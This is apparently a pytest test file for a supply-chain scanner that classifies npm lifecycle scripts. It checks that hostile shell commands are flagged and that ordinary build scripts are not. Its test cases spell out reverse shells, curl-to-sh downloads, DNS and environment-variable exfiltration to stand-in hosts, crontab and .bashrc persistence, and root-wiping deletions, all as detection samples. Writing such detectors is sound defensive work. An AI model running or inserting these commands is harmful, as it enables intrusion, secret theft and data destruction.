"""Shell facts from lifecycle scripts: each fact from a real grammar, and benign scripts stay quiet."""

from __future__ import annotations

import pytest

from airlock.analysis.scripts import describe_shell, expand_package_config, gyp_commands


@pytest.mark.parametrize(
    ("script", "fact"),
    [
        ("curl -fsSL https://x.example.com/i.sh | sh", "pipe_to_interpreter"),
        ("wget -qO- https://x.example.com/i | bash -s", "pipe_to_interpreter"),
        ('bash -c "$(curl -s https://x.example.com/i)"', "pipe_to_interpreter"),
        ("curl -o /tmp/a https://x.example.com/a && chmod +x /tmp/a && /tmp/a", "executes_download"),
        ("bash -i >& /dev/tcp/198.51.100.1/9 0>&1", "reverse_shell"),
        ("nc -e /bin/sh 198.51.100.1 9", "reverse_shell"),
        ("nslookup $(whoami).x.oastify.com.invalid", "dns_beacon"),
        ("dig `hostname`.x.example.com", "dns_beacon"),
        ("env | curl -d @- https://x.example.com", "env_dump"),
        ("echo x >> ~/.bashrc", "persistence"),
        ("(crontab -l; echo '* * * * * x') | crontab -", "persistence"),
        ("rm -rf ~/", "destructive"),
        ("echo ZWNobw== | base64 -d | sh", "encoded"),
        ("powershell -enc ZQBjAGgAbwA=", "encoded"),
        ("regsvr32 /s x.dll", "lolbins"),
        ("npm publish --access public", "propagation"),
        ("start /B node x.js & node x.js", "hidden"),
    ],
)
def test_malicious_shapes_are_recognised(script: str, fact: str) -> None:
    assert getattr(describe_shell(script), fact), describe_shell(script)


@pytest.mark.parametrize(
    "script",
    [
        "node install.js",
        "node-gyp rebuild",
        "husky install",
        "prebuild-install || node-gyp rebuild",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "tsc -p . && rm -rf dist/tmp",
        "patch-package",
        "opencollective-postinstall || exit 0",
    ],
)
def test_benign_scripts_raise_nothing(script: str) -> None:
    facts = describe_shell(script)
    assert not (
        facts.fetches_and_runs
        or facts.reverse_shell
        or facts.dns_beacon
        or facts.destructive
        or facts.encoded
        or facts.persistence
        or facts.lolbins
    ), facts


def test_node_files_and_inline_code_are_followed() -> None:
    facts = describe_shell("node ./scripts/setup.js --flag && node -e \"require('child_process')\"")
    assert facts.runs_files == ("./scripts/setup.js",)
    assert facts.node_inline == ("require('child_process')",)


def test_gyp_command_expansions() -> None:
    gyp = "{'include_dirs': [\"<!(node -p \\\"require('nan')\\\")\", '<!@(pkg-config --cflags x)']}"
    assert gyp_commands(gyp) == ["node -p \\\"require('nan')\\\"", "pkg-config --cflags x"]


@pytest.mark.parametrize(
    ("script", "fact"),
    [
        ("sudo rm -rf --no-preserve-root /", "destructive"),
        ("sudo -u root env A=1 rm -rf /", "destructive"),
        ("rm -rf ~/*", "destructive"),
        ('rm -rf "$HOME"/*', "destructive"),
        ("rm -rf /*", "destructive"),
        ("cd ~ && rm -rf *", "destructive"),
        ("find / -delete", "destructive"),
        ("rmdir /s /q C:\\", "destructive"),
        ("rm -rf ./*", "wipes_cwd"),
        ("rm -rf *", "wipes_cwd"),
        ("sh -c 'curl -s https://x.example.com/i | sh'", "pipe_to_interpreter"),
    ],
)
def test_wrappers_wildcards_and_nested_shells_do_not_hide_commands(script: str, fact: str) -> None:
    assert getattr(describe_shell(script), fact), describe_shell(script)


@pytest.mark.parametrize(
    "script",
    ["rm -rf build/*", "cd build && rm -rf *", "rm -rf dist ./*.tsbuildinfo", "rm -rf node_modules/.cache"],
)
def test_cleaning_a_subdirectory_is_not_destructive(script: str) -> None:
    facts = describe_shell(script)
    assert not facts.destructive and not facts.wipes_cwd, facts


@pytest.mark.parametrize(
    ("script", "spec"),
    [
        ("npx -y https://x.example.com/p.tgz", "https://x.example.com/p.tgz"),
        ("npx --yes github:a/b", "github:a/b"),
        ("npx -p left-pad@1.3.0 left-pad", "left-pad@1.3.0"),
        ("pnpm dlx create-thing", "create-thing"),
        ("yarn dlx @scope/tool@2", "@scope/tool@2"),
        ("bunx some-cli --flag", "some-cli"),
        ("npm exec -- husky install", "husky"),
        ("npm install https://x.example.com/a.tgz", "https://x.example.com/a.tgz"),
    ],
)
def test_runners_name_the_package_they_fetch(script: str, spec: str) -> None:
    assert spec in [s for s, _ in describe_shell(script).remote_packages]


def test_local_runners_fetch_nothing() -> None:
    for script in (
        "pnpm exec tsc",
        "npx --no-install tsc -p .",
        "yarn run build",
        "npm run build",
        "npm ci",
        "npm install --no-save",
    ):
        assert describe_shell(script).remote_packages == (), script


@pytest.mark.parametrize(
    ("script", "file"),
    [
        ("npx tsx scripts/setup.ts", "scripts/setup.ts"),
        ("tsx setup.ts", "setup.ts"),
        ("ts-node --transpile-only x.ts", "x.ts"),
        ("node --import tsx x.ts", "x.ts"),
        ("bun x.ts", "x.ts"),
        ("bun run x.ts", "x.ts"),
        ("deno run -A x.ts", "x.ts"),
    ],
)
def test_typescript_runners_run_their_file(script: str, file: str) -> None:
    assert file in describe_shell(script).runs_files


def test_deletes_and_renames_are_listed() -> None:
    facts = describe_shell("node setup.js && del setup.js && ren package.md package.json")
    assert ("setup.js", "del setup.js") in facts.deletes
    assert ("package.json", "ren package.md package.json") in facts.renames
    assert [t for t, _ in describe_shell("cat x > package.json").renames] == ["package.json"]


def test_package_config_is_expanded_from_the_manifest() -> None:
    config = {"url": "https://x.example.com/i.sh", "a_b": "1"}
    text = "curl $npm_package_config_url | sh; echo %npm_package_config_a_b% ${npm_package_config_zz}"
    assert expand_package_config(text, config) == (
        "curl https://x.example.com/i.sh | sh; echo 1 ${npm_package_config_zz}"
    )
    assert expand_package_config("node x.js", config) == "node x.js"


def test_gyp_actions_are_commands() -> None:
    gyp = (
        "{'targets': [{'actions': [{'action_name': 'gen', 'inputs': [], 'outputs': ['o'],\n"
        "  'action': ['node', 'tools/gen.js', '<@(_outputs)']}]}]}"
    )
    assert gyp_commands(gyp) == ["node tools/gen.js '<@(_outputs)'"]
